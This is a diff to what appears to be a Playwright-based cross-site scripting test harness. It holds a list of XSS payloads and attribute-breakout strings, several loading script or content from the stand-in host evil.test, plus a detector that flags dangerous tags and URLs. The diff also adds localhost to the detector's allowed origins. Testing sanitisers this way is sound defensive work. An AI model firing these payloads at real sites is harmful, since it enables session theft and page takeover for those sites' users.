@@ -8,31 +8,31 @@ from itertools import count
 
 from playwright.sync_api import Page
 
-LONGEST = 3_500
+LONGEST = 3_990
 """Characters of payloads in one field: a form takes 4,000."""
 
 # Out of what a text may stand in: an element, an attribute, a textarea, a comment, a script.
-OUT_OF = ("", '">', "'>", "</textarea>", "</title>", "</option></select>", "--></style>")
+OUT_OF = ("", '">', "'>", "</textarea>", "</title>", "</select>", "--></style>")
 
 ALIVE = (
     "<script>{}</script>",
-    "<script src=//evil.example/{0}></script>",
+    "<script src=//evil.test/{0}>",
     "<img src=x onerror={}>",
     "<svg onload={}>",
-    "<svg><script>{}</script></svg>",
-    "<iframe srcdoc='<script>{}</script>'></iframe>",
-    "<details open ontoggle={}>x</details>",
+    "<svg><script>{}</script>",
+    "<iframe srcdoc='<script>{}</script>'>",
+    "<details open ontoggle={}>",
     "<input autofocus onfocus={}>",
-    "<a href=javascript:{} id=planted>x</a>",
-    "<form action=//evil.example/{}><button formaction=javascript:{}>x</button></form>",
+    "<a href=javascript:{} id=planted>",
+    "<form action=//evil.test/{}><button formaction=javascript:{}>",
     "<math><mtext><table><mglyph><style><img src=x onerror={}>",
-    "<object data=javascript:{}></object>",
+    "<object data=javascript:{}>",
     "<meta http-equiv=refresh content='0;url=javascript:{}'>",
-    "<base href=//evil.example/{}>",
-    "<style>@import '//evil.example/{}';</style>",
-    "<link rel=stylesheet href=//evil.example/{}>",
-    "<div style=background:url(//evil.example/{})>x</div>",
-    "<p hx-on:click={} hx-get=//evil.example hx-trigger=load>x</p>",
+    "<base href=//evil.test/{}>",
+    "<style>@import '//evil.test/{}';</style>",
+    "<link rel=stylesheet href=//evil.test/{}>",
+    "<div style=background:url(//evil.test/{})>",
+    "<p hx-on:click={} hx-get=//evil.test hx-trigger=load>",
 )
 
 OTHERWISE = (
@@ -41,7 +41,7 @@ OTHERWISE = (
     " onerror={} ",
     '" style="x:expression({})" x="',
     '" srcdoc="<script>{}</script>" x="',
-    '" hx-get="//evil.example/{}" hx-trigger="load" x="',
+    '" hx-get="//evil.test/{}" hx-trigger="load" x="',
     "javascript:{}",
     "JaVaScRiPt&colon;{}",
     "java\tscript:{}",
@@ -93,7 +93,7 @@ TELL = r"""
     "audio", "video", "noscript", "scr", "mglyph"])
   const leads = new Set(["href", "src", "action", "formaction", "xlink:href", "data", "poster",
     "hx-get", "hx-post", "hx-sse:connect"])
-  const ours = /^(\/(?!\/)|#|\?|$|data:image\/svg\+xml)/
+  const ours = /^(\/(?!\/)|#|\?|$|data:image\/svg\+xml|http:\/\/127\.0\.0\.1[:\/])/
   const found = []
   for (const each of new DOMParser().parseFromString(html, "text/html").querySelectorAll("*")) {
     const tag = each.localName
@@ -102,7 +102,7 @@ TELL = r"""
       found.push("<script>")
     if (tag === "meta" && each.hasAttribute("http-equiv")) found.push("<meta>")
     for (const { name, value } of each.attributes) {
-      if (/^(hx-)?on|^style$|^srcdoc$|[^a-z:.-]/i.test(name) && !/^data-/.test(name))
+      if (/^(hx-)?on|^style$|^srcdoc$|[^a-z0-9:.-]/i.test(name) && !/^data-/.test(name))
         found.push(`<${tag} ${name}>`)
       if (leads.has(name) && !ours.test(value)) found.push(`<${tag} ${name}="${value}">`)
     }
